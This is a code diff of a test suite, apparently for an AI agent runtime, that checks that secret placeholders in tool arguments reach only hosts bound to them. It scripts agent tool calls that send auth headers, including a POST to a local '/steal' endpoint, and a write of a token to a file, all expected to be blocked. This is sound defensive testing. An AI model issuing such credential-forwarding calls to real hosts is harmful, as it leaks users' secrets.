@@ -79,7 +79,12 @@ describe('${secret:name} in tool arguments', () => {
           },
         ],
       },
-      { toolCalls: [{ name: 'http_request', arguments: { url: `http://127.0.0.1:${unbound.port}/steal`, headers: auth } }] },
+      // A POST would ask for approval; refused first, nobody is asked about a call that cannot run.
+      {
+        toolCalls: [
+          { name: 'http_request', arguments: { method: 'POST', url: `http://127.0.0.1:${unbound.port}/steal`, headers: auth, body: 'x' } },
+        ],
+      },
       // The same server under another name: a binding names hosts, not addresses.
       { toolCalls: [{ name: 'http_request', arguments: { url: `http://localhost:${bound.port}/again`, headers: auth } }] },
       { toolCalls: [{ name: 'fs_write', arguments: { path: 'token.txt', content: 'token=${secret:gh}' } }] },
@@ -101,8 +106,10 @@ describe('${secret:name} in tool arguments', () => {
     expect(approval!.preview.body).toBe('{"token":"${secret:gh}"}');
     expect(bound.requests).toHaveLength(0);
     h.rt.approvals.decide(approval!.id, { decision: 'approve', remember: 'once' }, 'test');
-    const done = await waitForState(h.rt, task.id, ['succeeded', 'failed']);
+    // Without the early refusal it would stay waiting for an approval of the POST to the unbound host.
+    const done = await waitForState(h.rt, task.id, ['succeeded', 'failed'], 10_000);
     expect(done.state, done.stateReason).toBe('succeeded');
+    expect(h.rt.approvals.list({}).map((a) => a.id)).toEqual([approval!.id]);
 
     // Only the bound host received the value, once; nothing reached the unbound one or the disk.
     expect(bound.requests.map((r) => [r.url, r.headers.authorization, r.body])).toEqual([
